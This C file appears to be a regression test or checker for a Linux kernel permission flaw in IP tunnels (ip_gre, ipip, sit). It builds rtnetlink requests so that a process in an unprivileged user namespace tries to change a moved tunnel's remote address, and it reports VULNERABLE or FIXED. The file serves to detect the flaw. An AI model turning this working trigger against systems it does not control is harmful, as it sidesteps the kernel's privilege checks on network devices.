/*
 * The changelink trigger shared by the IP tunnel fixes (ip_gre, ipip, sit):
 * root creates a tunnel of kind TUNNEL_KIND (autoloading its module) and moves
 * it into a netns owned by a new user namespace; the process there, with no
 * privilege over the tunnel's link netns, changes the tunnel's remote address
 * (attribute TUNNEL_REMOTE_ATTR). That succeeds on a vulnerable kernel and
 * fails with EPERM once the fix is in. Addresses are from TEST-NET-1; no
 * packet is sent. The including trigger.c defines both macros.
 */
#ifndef TUNNEL_KIND
#error "define TUNNEL_KIND (the rtnetlink link kind) before including this file"
#endif
#ifndef TUNNEL_REMOTE_ATTR
#error "define TUNNEL_REMOTE_ATTR (the IFLA_*_REMOTE attribute of that kind) before including this file"
#endif
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_link.h>
#include <linux/if_tunnel.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define IFNAME "lgtrig0"

unsigned int if_nametoindex(const char *name);

struct req {
	struct nlmsghdr nh;
	struct ifinfomsg ifi;
	char buf[512];
};

static struct rtattr *put(struct req *r, int type, const void *data, int len)
{
	struct rtattr *rta = (struct rtattr *)((char *)r + NLMSG_ALIGN(r->nh.nlmsg_len));

	rta->rta_type = type;
	rta->rta_len = RTA_LENGTH(len);
	if (len)
		memcpy(RTA_DATA(rta), data, len);
	r->nh.nlmsg_len = NLMSG_ALIGN(r->nh.nlmsg_len) + RTA_ALIGN(rta->rta_len);
	return rta;
}

static void end(struct req *r, struct rtattr *nest)
{
	nest->rta_len = (char *)r + r->nh.nlmsg_len - (char *)nest;
}

/* Sends one request and returns the kernel's answer (0 or -errno). */
static int talk(struct req *r)
{
	struct sockaddr_nl sa = { .nl_family = AF_NETLINK };
	char ans[4096];
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE), n;
	struct nlmsghdr *h = (struct nlmsghdr *)ans;

	if (fd < 0)
		return -errno;
	r->nh.nlmsg_flags |= NLM_F_REQUEST | NLM_F_ACK;
	if (sendto(fd, r, r->nh.nlmsg_len, 0, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		n = -errno;
		close(fd);
		return n;
	}
	n = recv(fd, ans, sizeof(ans), 0);
	close(fd);
	if (n < (int)sizeof(*h) || h->nlmsg_type != NLMSG_ERROR)
		return -EPROTO;
	return ((struct nlmsgerr *)NLMSG_DATA(h))->error;
}

static void init(struct req *r, int type, int flags, int ifindex)
{
	memset(r, 0, sizeof(*r));
	r->nh.nlmsg_len = NLMSG_LENGTH(sizeof(struct ifinfomsg));
	r->nh.nlmsg_type = type;
	r->nh.nlmsg_flags = flags;
	r->ifi.ifi_family = AF_UNSPEC;
	r->ifi.ifi_index = ifindex;
}

static void gre_info(struct req *r, const char *remote)
{
	struct rtattr *li, *data;
	struct in_addr a;

	inet_pton(AF_INET, remote, &a);
	li = put(r, IFLA_LINKINFO, NULL, 0);
	put(r, IFLA_INFO_KIND, TUNNEL_KIND, sizeof(TUNNEL_KIND));
	data = put(r, IFLA_INFO_DATA, NULL, 0);
	put(r, TUNNEL_REMOTE_ATTR, &a, sizeof(a));
	end(r, data);
	end(r, li);
}

static void del_link(void)
{
	struct req r;
	int idx = if_nametoindex(IFNAME);

	if (!idx)
		return;
	init(&r, RTM_DELLINK, 0, idx);
	talk(&r);
}

int main(void)
{
	int go[2], ready[2], res[2], err, idx, answer = -EPROTO;
	struct req r;
	pid_t pid;
	char c;

	del_link();
	init(&r, RTM_NEWLINK, NLM_F_CREATE | NLM_F_EXCL, 0);
	put(&r, IFLA_IFNAME, IFNAME, sizeof(IFNAME));
	gre_info(&r, "192.0.2.1");
	err = talk(&r);
	if (err) {
		printf("UNSUPPORTED: creating a " TUNNEL_KIND " link: %s\n", strerror(-err));
		return 0;
	}
	idx = if_nametoindex(IFNAME);
	if (pipe(go) || pipe(ready) || pipe(res)) {
		printf("UNSUPPORTED: pipe: %s\n", strerror(errno));
		del_link();
		return 0;
	}
	pid = fork();
	if (pid == 0) {
		int e = 0;

		if (unshare(CLONE_NEWUSER | CLONE_NEWNET))
			e = -errno;
		if (write(ready[1], &e, sizeof(e)) != sizeof(e) || e)
			_exit(0);
		if (read(go[0], &c, 1) != 1)
			_exit(0);
		idx = if_nametoindex(IFNAME);
		if (!idx) {
			e = -ENODEV;
		} else {
			init(&r, RTM_NEWLINK, 0, idx);
			gre_info(&r, "192.0.2.2");
			e = talk(&r);
		}
		if (write(res[1], &e, sizeof(e)) != sizeof(e))
			_exit(1);
		_exit(0);
	}
	if (pid < 0 || read(ready[0], &err, sizeof(err)) != sizeof(err) || err) {
		printf("UNSUPPORTED: user namespace: %s\n", strerror(err ? -err : errno));
		del_link();
		return 0;
	}
	init(&r, RTM_NEWLINK, 0, idx);
	put(&r, IFLA_NET_NS_PID, &pid, sizeof(pid));
	err = talk(&r);
	if (err) {
		printf("UNSUPPORTED: moving the " TUNNEL_KIND " link to the user namespace's netns: %s\n", strerror(-err));
		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
		del_link();
		return 0;
	}
	if (write(go[1], "x", 1) != 1 || read(res[0], &answer, sizeof(answer)) != sizeof(answer))
		answer = -EPROTO;
	waitpid(pid, NULL, 0);
	del_link();
	if (answer == 0)
		printf("VULNERABLE\n");
	else if (answer == -EPERM)
		printf("FIXED\n");
	else
		printf("UNSUPPORTED: changelink from the user namespace: %s\n", strerror(-answer));
	return 0;
}
